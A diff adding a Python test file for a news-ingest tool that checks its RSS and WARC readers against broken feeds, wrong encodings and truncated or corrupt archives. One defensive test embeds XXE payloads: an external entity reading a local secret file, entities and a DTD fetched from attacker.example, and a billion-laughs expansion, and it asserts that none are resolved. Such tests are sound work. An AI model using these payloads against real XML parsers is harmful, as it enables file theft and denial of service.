@@ -1,0 +1,236 @@
+"""Broken feeds and WARCs as they come from real crawlers and feed generators (issue 10).
+
+Each file in ``realworld/`` is invented and written by ``realworld/make_fixtures.py``; the
+table says what ingest must make of it: the articles it keeps and the rejections, with a
+reason, for what it cannot use. Bad input never stops the batch and files are never changed.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import importlib.util
+import re
+import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from groundwatch.records import Article, Rejection
+from groundwatch.stages.ingest import iter_inputs
+from groundwatch.stages.readers.feeds import parse_feed
+from groundwatch.stages.readers.metadata import Doc
+
+HERE = Path(__file__).parent / "realworld"
+PAGES = [("Brennock dam inspected", 1), ("Ferry to Callow Island delayed", 2), ("Pellworth school reopens", 3)]
+
+# file -> (ids of the articles read, [(article id suffix, "" for the file's own id, or None for no id;
+#          reason pattern)])
+TABLE: dict[str, tuple[list[str], list[tuple[str | None, str]]]] = {
+    "rss091-netscape.rss": (["#1", "#2"], []),
+    "rss10.rdf": (["#1", "#2"], []),
+    "latin1-declared.rss": (["#1", "#2", "#3", "#4"], []),
+    "cp1251-declared.rss": (["#1"], []),
+    "gb2312-declared-gbk.rss": (["#1"], []),
+    "declared-utf8-is-cp1252.rss": (["#1", "#2", "#3", "#4"], []),
+    "declared-latin1-is-utf8.rss": (["#1", "#2", "#3", "#4"], []),
+    "really-gzip.rss": (["#1", "#2", "#3"], []),
+    "feed-gzip-no-extension": (["#1", "#2", "#3"], []),
+    "unescaped-ampersand.rss": (["#1", "#2", "#3", "#4"], []),
+    "html-entities.rss": (["#1", "#2", "#3", "#4"], []),
+    "external-entity.rss": (["#1", "#2", "#3", "#4"], []),
+    "billion-laughs.rss": (["#1", "#2", "#3", "#4"], []),
+    "truncated.rss": (["#1", "#2"], [("#3", r"item 3: cut short \(the file ends inside this item; 2 complete")]),
+    "summary-and-link.rss": (["#1"], [("#2", r"item 2: no text .*its link https://courier\.example/link-only")]),
+    "one-gzip-member.warc.gz": (["#1", "#2", "#3"], []),
+    "members-across-records.warc.gz": (["#1", "#2", "#3"], []),
+    "clipped-record.warc": (["#1", "#2"], [("#3", r"record 3: cut short, the file ends 226 byte\(s\) before")]),
+    "clipped-record.warc.gz": (["#1", "#2"], [(None, r"truncated WARC: the file ends inside the header of the "
+                                                      r"record at byte \d+ \(gzip stream ends in the middle")]),
+    "clipped-header.warc": (["#1", "#2"], [(None, r"truncated WARC: the file ends inside the header of the "
+                                                  r"record at byte 1677; 2 article")]),
+    "revisits.warc": (["#1", "#2", "#3"], []),
+    "chunked-and-gzip-payloads.warc": (["#1", "#2", "#3"], []),
+    "mislabelled-payloads.warc": (["#1", "#2", "#3"], []),
+    "non-html-responses.warc": (["#1"], []),
+    "wrong-content-length.warc": (["#1", "#2", "#3"], []),
+    "content-length-too-long.warc": (["#1", "#2", "#3"], [
+        ("", r"^broken WARC: bytes 2019-2507 are not a WARC record .*reading resumed at the next record header")]),
+    "lf-only-headers.warc": (["#1", "#2", "#3"], []),
+    "corrupt-gzip-member.warc.gz": (["#1", "#2"], [("", r"^corrupt gzip data \(.*\) after decompressed byte 834; "
+                                                        r"reading resumed at the next gzip member")]),
+    "nul-padded.warc.gz": (["#1", "#2", "#3"], []),
+    "legacy.arc": (["#1", "#2", "#3"], []),
+    "legacy-gz.arc.gz": (["#1", "#2", "#3"], []),
+    "bom-and-blank-line-first.rss": (["#1", "#2", "#3"], []),
+    "utf16-no-bom.rss": (["#1"], []),
+    "whole-page-in-cdata.rss": (["#1"], []),
+}
+
+
+def _read(name: str) -> tuple[list[Article], list[Rejection]]:
+    path = HERE / name
+    records = list(iter_inputs([path]))
+    return ([r for r in records if isinstance(r, Article)], [r for r in records if isinstance(r, Rejection)])
+
+
+def _stem(name: str) -> str:
+    return re.sub(r"\.(rss|rdf|warc|warc\.gz|arc|arc\.gz)$", "", name)
+
+
+def test_table_covers_every_fixture() -> None:
+    files = {p.name for p in HERE.iterdir() if p.suffix != ".py" and not p.name.startswith((".", "__"))}
+    assert files == set(TABLE)
+
+
+def test_fixtures_are_what_the_script_writes() -> None:
+    spec = importlib.util.spec_from_file_location("make_fixtures", HERE / "make_fixtures.py")
+    assert spec is not None and spec.loader is not None
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    written = {**module.feeds(), **module.warcs()}
+    assert {name: (HERE / name).read_bytes() == data for name, data in written.items()} == dict.fromkeys(written, True)
+
+
+@pytest.mark.issue(10)
+@pytest.mark.parametrize("name", sorted(TABLE))
+def test_what_is_read(name: str) -> None:
+    before = hashlib.sha256((HERE / name).read_bytes()).hexdigest()
+    articles, rejections = _read(name)
+    ids, rejected = TABLE[name]
+    stem = _stem(name)
+    assert [a.id for a in articles] == [stem + i for i in ids]
+    assert len(rejections) == len(rejected), [r.reason for r in rejections]
+    for rejection, (suffix, pattern) in zip(rejections, rejected, strict=True):
+        assert rejection.article_id == (stem + suffix if suffix is not None else None)
+        assert re.search(pattern, rejection.reason), rejection.reason
+    assert all(a.body.strip() for a in articles)
+    assert hashlib.sha256((HERE / name).read_bytes()).hexdigest() == before  # never modified
+
+
+@pytest.mark.issue(10)
+@pytest.mark.parametrize(
+    ("name", "title", "body"),
+    [
+        ("latin1-declared.rss", "Café fermé", "Le café de la place à Brennock est fermé après la crue"),
+        ("cp1251-declared.rss", "Мост закрыт", "Мост через реку у Бреннока закрыт"),
+        ("gb2312-declared-gbk.rss", "洪水过后", "陈国镕说学校将在周一复课。"),
+        ("declared-utf8-is-cp1252.rss", "Quay “closed”", "is “closed” until Friday, the harbour master’s office"),
+        ("declared-latin1-is-utf8.rss", "Café fermé", "a déclaré le maire."),
+        ("html-entities.rss", "Hospital open", "open again, the café too."),
+        ("rss091-netscape.rss", "Harbour wall mended", "spring tides — the café on the quay reopened."),
+        ("unescaped-ampersand.rss", "Fish & chips", "Stalls selling fish & chips returned"),
+        ("utf16-no-bom.rss", "Café fermé", "a déclaré le maire."),
+    ],
+)
+def test_text_is_decoded_as_written(name: str, title: str, body: str) -> None:
+    articles, _ = _read(name)
+    first = next(a for a in articles if a.title == title)
+    assert body in first.body
+
+
+@pytest.mark.issue(10)
+def test_feed_metadata_survives_the_forgiving_parser() -> None:
+    articles, _ = _read("rss10.rdf")
+    assert [(a.outlet, a.url, a.language) for a in articles] == [
+        ("Ostrand Wire", "https://wire.example/1", "en"), ("Ostrand Wire", "https://wire.example/2", "en")]
+    assert str(articles[0].published) == "2031-02-05"  # the date written, not shifted to UTC
+    (ampersand,) = [a for a in _read("unescaped-ampersand.rss")[0] if a.title == "Fish & chips"]
+    assert ampersand.url == "https://courier.example/fish?a=1&b=2"
+
+
+@pytest.mark.issue(10)
+def test_summary_only_item_keeps_its_link() -> None:
+    (teaser,), _ = _read("summary-and-link.rss")
+    assert (teaser.body, teaser.url) == ("Read how Pellworth rebuilt its bridge.", "https://courier.example/teaser")
+
+
+@pytest.mark.issue(10)
+def test_revisits_and_other_records_are_never_articles() -> None:
+    articles, _ = _read("revisits.warc")
+    assert [a.url for a in articles] == [f"https://courier.example/p{i}" for i in (1, 2, 3)]
+    (page,), _ = _read("non-html-responses.warc")
+    assert page.url == "https://courier.example/p3"
+    encoded, _ = _read("chunked-and-gzip-payloads.warc")
+    assert [a.title for a in encoded] == ["Brennock dam inspected", "Ferry to Callow Island delayed",
+                                          "Pellworth school reopens"]
+    assert all("Copyright" not in a.body and "\r\n" not in a.body for a in encoded)
+
+
+@pytest.mark.issue(10)
+def test_whole_page_in_a_feed_item_is_reduced_to_its_main_text() -> None:
+    (item,), _ = _read("whole-page-in-cdata.rss")
+    assert item.body.startswith("The pumping station at Brennock ran all night")
+    assert "Home | Sections" not in item.body and "Copyright" not in item.body
+
+
+@pytest.mark.issue(10)
+def test_arc_records_are_read_like_warc_responses() -> None:
+    for name in ("legacy.arc", "legacy-gz.arc.gz"):
+        articles, _ = _read(name)
+        assert [a.url for a in articles] == [f"https://courier.example/a{i}" for i in (1, 2, 3)]
+        assert [a.title for a in articles] == [title for title, _ in PAGES]
+        assert str(articles[0].published) == "2031-02-06"  # the capture date
+
+
+@contextmanager
+def _watch_io() -> Iterator[list[tuple[str, Any]]]:
+    """Every file open and network call made inside the block (audit hooks cannot be removed,
+    so the hook only records while the block runs)."""
+    events: list[tuple[str, Any]] = []
+    active = [True]
+
+    def hook(event: str, args: Any) -> None:
+        if active[0] and (event in ("open", "os.open", "urllib.Request", "http.client.connect")
+                          or event.startswith("socket.")):
+            events.append((event, args))
+
+    sys.addaudithook(hook)
+    try:
+        yield events
+    finally:
+        active[0] = False
+
+
+@pytest.mark.issue(10)
+def test_entities_are_neither_resolved_nor_fetched(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("KEEP-OUT-4471")
+    data = (f'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY local SYSTEM "file://{secret}">\n'
+            f'<!ENTITY remote SYSTEM "http://attacker.example/x">\n<!ENTITY % dtd SYSTEM "http://attacker.example/d">'
+            f'\n%dtd;\n<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n'
+            f'<rss version="2.0"><channel><title>Pellworth Post</title>'
+            f"<item><title>One</title><description>Rain in Pellworth. &local; &remote; &c;</description></item>"
+            f"<item><title>Two</title><description>Sun in Pellworth.</description></item>"
+            f"</channel></rss>").encode()
+    parse_feed(b"<rss><channel><item><description>warm-up</description></item></channel></rss>").__next__()
+    with _watch_io() as events:
+        docs = list(parse_feed(data))
+    assert events == []
+    assert [type(d).__name__ for d in docs] == ["Doc", "Doc"]
+    first = docs[0]
+    assert isinstance(first, Doc)
+    assert first.body.startswith("Rain in Pellworth.")
+    assert "KEEP-OUT" not in first.body and "haha" not in first.body
+    assert len(first.body) < 100  # nothing expanded
+
+
+@pytest.mark.issue(10)
+def test_feed_content_naming_a_path_is_not_opened(tmp_path: Path) -> None:
+    secret = tmp_path / "feed.rss"
+    secret.write_text("<rss><channel><item><description>from the other file</description></item></channel></rss>")
+    with _watch_io() as events, pytest.raises(Exception, match="not a feed"):
+        list(parse_feed(str(secret).encode()))  # feedparser would open a bytes "path" given as data
+    assert events == []
+
+
+@pytest.mark.issue(10)
+def test_reading_resumes_after_a_broken_stretch() -> None:
+    resumed, _ = _read("content-length-too-long.warc")
+    # the third capture's header was swallowed by the second record; the fourth is read again
+    assert [a.url for a in resumed] == [f"https://courier.example/p{i}" for i in (1, 2, 4)]
+    assert all("WARC-" not in a.body for a in resumed)
+    skipped, _ = _read("corrupt-gzip-member.warc.gz")
+    assert [a.url for a in skipped] == ["https://courier.example/p1", "https://courier.example/p3"]
